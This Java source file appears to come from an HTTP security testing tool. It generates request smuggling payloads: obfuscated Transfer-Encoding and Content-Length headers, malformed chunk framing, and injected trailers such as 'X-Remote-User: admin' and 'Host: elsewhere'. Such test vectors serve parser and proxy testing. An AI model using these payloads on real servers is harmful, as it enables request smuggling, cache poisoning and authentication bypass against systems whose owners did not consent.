package io.gatehouse.attacks;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.function.UnaryOperator;

/**
 * Ways to say how long a request's body is, and how long each of its chunks: each field in each spelling in each place that
 * somebody has once read differently from somebody else.
 */
final class Framings {
    private static final List<String> CODING_NAMES = List.of(
            "Transfer-Encoding:%s",
            "transfer-encoding:%s",
            "TRANSFER-ENCODING:%s",
            "Transfer-Encoding :%s",
            "Transfer-Encoding\t:%s",
            " Transfer-Encoding:%s",
            "Transfer_Encoding:%s",
            "Transfer-Encoding\0:%s",
            "Transfer-\u0117ncoding:%s",
            "Transfer-Encoding%s",
            "X-A: b\rTransfer-Encoding:%s",
            "X-A: b\nTransfer-Encoding:%s",
            "X-A: b\n\rTransfer-Encoding:%s",
            "X-A:\r\n Transfer-Encoding:%s",
            "X-A: b\u0085Transfer-Encoding:%s",
            "Transfer-Encoding:\r\n%s",
            "Transfer-Encoding:\n%s",
            "Transfer-Encoding:%s\r\n x",
            "Transfer-Encoding:%s\r\nTransfer-Encoding: x",
            "Transfer-Encoding: x\r\nTransfer-Encoding:%s",
            "Transfer-Encoding:%1$s\r\nTransfer-Encoding:%1$s",
            "Transfer-Encoding: identity\r\nTransfer-Encoding:%s",
            "TE: chunked\r\nTransfer-Encoding:%s",
            "Connection: Transfer-Encoding\r\nTransfer-Encoding:%s");

    private static final List<String> CODINGS = List.of(
            " chunked",
            "chunked",
            " Chunked",
            " CHUNKED",
            "\tchunked",
            "  \t chunked \t",
            " chunked,",
            " ,chunked",
            " chunked, identity",
            " identity, chunked",
            " gzip, chunked",
            " chunked, chunked",
            " chunked chunked",
            " chunked;q=1",
            " \"chunked\"",
            " 'chunked'",
            " chunk",
            " xchunked",
            " chunked\u000b",
            " \u000cchunked",
            " chunked\u00a0",
            " chunked\0",
            " \u0001chunked",
            " chun\rked",
            " \u212ahunked",
            " cow",
            " identity",
            "");

    private static final List<String> LENGTHS = List.of(
            "%s",
            "+%s",
            "-%s",
            "0%s",
            "00000000000000000000%s",
            "0x%s",
            "%s.0",
            "%se0",
            "%s ",
            "%s,",
            ",%s",
            "%1$s, %1$s",
            "%s, 0",
            "0, %s",
            "%s 0",
            "%s\u000b",
            "\u000c%s",
            "%s\0",
            "%s\u00a0",
            "\"%s\"",
            "%s;a=b",
            "%s_0",
            "0_%s",
            "%s\u0660",
            "",
            "-0",
            "9999999999999999999",
            "18446744073709551616",
            "%s\r\n 0",
            "\r\n %s",
            "%s\r\nContent-Length: 0",
            "0\r\nContent-Length: %s",
            "%1$s\r\nContent-Length: %1$s");

    private static final List<String> LENGTH_NAMES = List.of(
            "Content-Length: ",
            "content-length:",
            "Content-Length : ",
            " Content-Length: ",
            "Content_Length: ",
            "Content-Length\0: ",
            "X-A: b\rContent-Length: ",
            "X-A: b\nContent-Length: ");

    private Framings() {}

    /**
     * The headers of a request whose body is of so many bytes by its length, and ends with its first chunk by its coding.
     */
    static List<String> ofHeads(int length) {
        Set<String> all = new LinkedHashSet<>();
        String told = "Content-Length: " + length;
        List<UnaryOperator<String>> beside =
                List.of(coding -> coding, coding -> told + "\r\n" + coding, coding -> coding + "\r\n" + told);
        for (UnaryOperator<String> with : beside) {
            CODINGS.forEach(coding -> all.add(with.apply("Transfer-Encoding:" + coding)));
            CODING_NAMES.forEach(name -> all.add(with.apply(name.formatted(" chunked"))));
        }
        for (String name : LENGTH_NAMES) {
            LENGTHS.forEach(number -> all.add(name + number.formatted(length)));
        }
        return all.stream().map(lines -> lines + "\r\n").toList();
    }

    /** Chunked bodies of {@code {}}, or what is none. */
    static List<String> ofChunks() {
        Set<String> all = new LinkedHashSet<>();
        List<String> ends = List.of("\r\n", "\n", "\r", "\r\r\n", "\n\r\n", "\u0085", "");
        List<String> sizes = List.of(
                "2",
                "02",
                "0000000000000002",
                "2 ",
                "2\t",
                " 2",
                "\t2",
                "+2",
                "-2",
                "0x2",
                "2h",
                "2.0",
                "2_",
                "\u0662",
                "\u00b2",
                "",
                "2,",
                "2 2",
                "2\0",
                "\0002",
                "100000000000000002",
                "2\u000b",
                "\"2\"");
        List<String> extensions = List.of(
                "",
                ";",
                ";a",
                ";a=b",
                "; a = b",
                ";a=\"b\"",
                ";a=\"b;c\"",
                ";a=\"",
                ";a=\"\\\"\"",
                ";;",
                " ;a",
                ";a\r",
                ";\ra",
                ";a\n",
                ";a=\"\r\n\"",
                ";a=\"\n\"",
                ";\0",
                ";\u0080",
                ",a",
                " a");
        List<String> trailers = List.of(
                "",
                "X-A: b\r\n",
                "X-A:b\n",
                "X A: b\r\n",
                "X-A : b\r\n",
                ": b\r\n",
                "X-A\r\n",
                " X-A: b\r\n",
                "X-A: b\r\n c\r\n",
                "X-A: b\0\r\n",
                "Content-Length: 5\r\n",
                "Transfer-Encoding: chunked\r\n",
                "X-Remote-User: admin\r\n",
                "Authorization: Bearer x\r\n",
                "Host: elsewhere\r\n");
        for (String size : sizes) {
            for (String end : ends) {
                all.add(size + end + "{}\r\n0\r\n\r\n");
            }
        }
        for (String extension : extensions) {
            all.add("2" + extension + "\r\n{}\r\n0\r\n\r\n");
            all.add("2\r\n{}\r\n0" + extension + "\r\n\r\n");
        }
        for (String end : ends) {
            all.add("2\r\n{}" + end + "0\r\n\r\n");
            all.add("2\r\n{}\r\n0" + end + "\r\n");
            all.add("2\r\n{}\r\n0\r\n" + end);
        }
        for (String trailer : trailers) {
            all.add("2\r\n{}\r\n0\r\n" + trailer + "\r\n");
        }
        return new ArrayList<>(all);
    }
}
